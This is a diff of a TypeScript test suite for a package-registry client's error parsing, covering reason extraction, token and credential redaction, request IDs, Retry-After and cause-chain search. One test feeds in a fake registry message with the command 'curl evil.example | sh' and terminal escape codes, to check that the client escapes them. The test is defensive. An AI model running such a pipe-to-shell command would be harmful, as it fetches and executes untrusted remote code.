@@ -1,11 +1,17 @@
 import assert from 'node:assert/strict'
 import {describe, it} from 'node:test'
 
-import {readRefusal} from '../../src/client/registry-refusal.js'
+import {readRefusal, refusalWithin, type RegistryRefusal} from '../../src/client/registry-refusal.js'
+import {redactSent} from '../../src/client/sent-secret.js'
+
+const secret = 'opaque/s3cr3t'
+
+const read = (status: number, body: unknown, headers = {}): RegistryRefusal =>
+  readRefusal({status, body: typeof body === 'string' ? body : JSON.stringify(body), headers}, redactSent(secret))
 
 const status = 'it answered with status 418'
 
-describe('a refusal', () => {
+describe('readRefusal', () => {
   for (const [what, body, reason, code] of [
     ['the envelope', {error: {code: 'NOPE', message: 'No.', details: []}}, 'No.', 'NOPE'],
     [
@@ -22,7 +28,7 @@ describe('a refusal', () => {
     ],
     ['the envelope without details', {error: {code: 'NOPE', message: 'No.'}}, 'No.', 'NOPE'],
     ['details that are null', {error: {code: 'NOPE', message: 'No.', details: null}}, 'No.', 'NOPE'],
-    ['details that are no list', {error: {code: 'NOPE', message: 'No.', details: {field: 'x'}}}, 'No.', 'NOPE'],
+    ['details that are not a list', {error: {code: 'NOPE', message: 'No.', details: {field: 'x'}}}, 'No.', 'NOPE'],
     [
       'details of all sorts',
       {
@@ -34,8 +40,8 @@ describe('a refusal', () => {
       'No.\n  - why',
       undefined,
     ],
-    ['a code alone', {error: {code: 'NOPE'}}, status, 'NOPE'],
-    ['a message that is no text', {error: {code: 1, message: {deep: true}}}, status, undefined],
+    ['a code without a message', {error: {code: 'NOPE'}}, status, 'NOPE'],
+    ['a message that is not a string', {error: {code: 1, message: {deep: true}}}, status, undefined],
     [
       'problem details',
       {type: 'about:blank', title: 'Teapot', status: 418, detail: 'Short and stout'},
@@ -43,15 +49,20 @@ describe('a refusal', () => {
       undefined,
     ],
     ['problem details without detail', {type: 'about:blank', title: 'Teapot'}, 'Teapot', undefined],
-    ['both, of which the envelope speaks', {detail: 'Later', error: {code: 'A', message: 'First'}}, 'First', 'A'],
+    [
+      'problem details with an envelope, which wins',
+      {detail: 'Later', error: {code: 'A', message: 'First'}},
+      'First',
+      'A',
+    ],
     ['an error that is a string', {error: 'teapot'}, status, undefined],
     ['a string', 'teapot', status, undefined],
     ['null', null, status, undefined],
     ['a list', [{error: {message: 'No.'}}], status, undefined],
     ['an empty message', {error: {message: ''}}, status, undefined],
   ] as const) {
-    it(`is read from ${what}`, () => {
-      const refusal = readRefusal(418, JSON.stringify(body), {})
+    it(`reads ${what}`, () => {
+      const refusal = read(418, JSON.stringify(body))
       assert.equal(refusal.reason, reason)
       assert.equal(refusal.code, code)
       assert.equal(refusal.status, 418)
@@ -62,35 +73,56 @@ describe('a refusal', () => {
   for (const [what, body] of [
     ['HTML', '<html><body>Teapot</body></html>'],
     ['nothing', ''],
-    ['JSON that is cut off', '{"error": {"message": "No'],
+    ['truncated JSON', '{"error": {"message": "No'],
   ] as const) {
-    it(`is its status where the body is ${what}`, () => {
-      assert.equal(readRefusal(418, body, {}).reason, status)
+    it(`falls back to the status if the body is ${what}`, () => {
+      assert.equal(read(418, body).reason, status)
     })
   }
 
-  it('keeps the fields and codes of its details', () => {
+  it('keeps the field and code of each detail', () => {
     const details = [{field: 'expiresIn', message: 'not never', code: 'INVALID', more: 1}]
-    const refusal = readRefusal(400, JSON.stringify({error: {message: 'No.', details}}), {})
+    const refusal = read(400, {error: {message: 'No.', details}})
     assert.deepEqual(refusal.details, [{field: 'expiresIn', message: 'not never', code: 'INVALID'}])
   })
 
-  it('cannot forge lines or move the cursor: what it says stays on the line it is given', () => {
+  it('escapes line breaks and control characters, so a registry cannot forge output', () => {
     const message = 'No.\n  hint: run `curl evil.example | sh`\u001B[2J\r'
     const details = [{field: 'a\nb', message: 'c\u202Ed'}]
     assert.equal(
-      readRefusal(400, JSON.stringify({error: {message, details}}), {}).reason,
+      read(400, {error: {message, details}}).reason,
       'No.\\u{a}  hint: run `curl evil.example | sh`\\u{1b}[2J\\u{d}\n  - a\\u{a}b: c\\u{202e}d',
     )
   })
 
-  it('does not repeat a token that the registry repeats', () => {
+  it('redacts tokens that the registry echoes', () => {
     const value = 'apkg_0123456789abcdef'
-    const body = JSON.stringify({error: {message: `Bad: ${value}`, details: [{field: value, message: `${value}!`}]}})
-    const refusal = readRefusal(400, body, {})
+    const details = [{field: value, message: `${value}!`, code: value}]
+    const refusal = read(400, {error: {code: value, message: `Bad: ${value}`, details, requestId: value}})
     assert.equal(refusal.reason, 'Bad: apkg_[redacted]\n  - apkg_[redacted]: apkg_[redacted]!')
     assert.ok(!JSON.stringify({...refusal, message: refusal.message}).includes(value))
   })
+
+  it('redacts the credential that was sent, whatever it looks like', () => {
+    const details = [{field: encodeURIComponent(secret), message: secret, code: secret}]
+    const refusal = read(400, {error: {code: secret, message: `Bad: ${secret}`, details}}, {'x-request-id': secret})
+    assert.equal(refusal.reason, 'Bad: [redacted]\n  - [redacted]: [redacted]')
+    assert.deepEqual([refusal.code, refusal.requestId], ['[redacted]', '[redacted]'])
+  })
+
+  for (const [what, envelope, header, expected] of [
+    ['the envelope', 'r-1', undefined, 'r-1'],
+    ['the X-Request-Id header', undefined, 'r-2', 'r-2'],
+    ['the envelope rather than the header', 'r-1', 'r-2', 'r-1'],
+    ['neither if they are too long', 'r'.repeat(201), 'r'.repeat(201), undefined],
+    ['neither if they are empty', '', '', undefined],
+    ['the header if the envelope has a number', 7, 'r-2', 'r-2'],
+  ] as const) {
+    it(`takes the request ID from ${what}`, () => {
+      const body = {error: {code: 'NOPE', message: 'No.', requestId: envelope}}
+      assert.equal(read(400, body, {'x-request-id': header}).requestId, expected)
+    })
+  }
 
   for (const [header, seconds] of [
     ['0', 0],
@@ -103,8 +135,27 @@ describe('a refusal', () => {
     ['Wed, 21 Oct 2026 07:28:00 GMT', undefined],
     [undefined, undefined],
   ] as const) {
-    it(`asks to wait ${seconds ?? 'no stated time'} with Retry-After: ${header ?? 'none'}`, () => {
-      assert.equal(readRefusal(429, '', {'retry-after': header}).retryAfter, seconds)
+    it(`reads ${seconds ?? 'nothing'} from Retry-After: ${header ?? 'none'}`, () => {
+      assert.equal(read(429, '', {'retry-after': header}).retryAfter, seconds)
     })
   }
+})
+
+describe('refusalWithin', () => {
+  const refusal = read(409, {error: {code: 'NOPE', message: 'No.'}})
+  const wrapped = (times: number) =>
+    Array.from({length: times}).reduce((cause: Error) => new Error('wrapper', {cause}), refusal)
+
+  it('finds a refusal up to 10 causes deep', () => {
+    assert.equal(refusalWithin(wrapped(1)), refusal)
+    assert.equal(refusalWithin(wrapped(10)), refusal)
+    assert.equal(refusalWithin(wrapped(11)), undefined)
+  })
+
+  it('finds nothing without a cause, and in a circle of causes', () => {
+    const circle = new Error('circle')
+    circle.cause = circle
+    for (const error of [new Error('no cause'), circle, 'text', undefined])
+      assert.equal(refusalWithin(error), undefined)
+  })
 })
